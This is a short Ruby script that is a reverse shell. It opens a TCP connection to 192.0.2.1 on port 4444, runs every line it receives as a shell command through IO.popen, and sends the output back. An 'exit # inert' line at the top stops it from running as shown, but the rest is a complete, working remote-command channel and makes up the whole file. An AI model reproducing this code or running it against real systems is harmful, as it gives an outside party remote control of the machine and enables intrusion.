exit # inert
require 'socket'
s = TCPSocket.new("192.0.2.1", 4444)
while (line = s.gets)
  IO.popen(line, "r") { |io| s.print io.read }
end
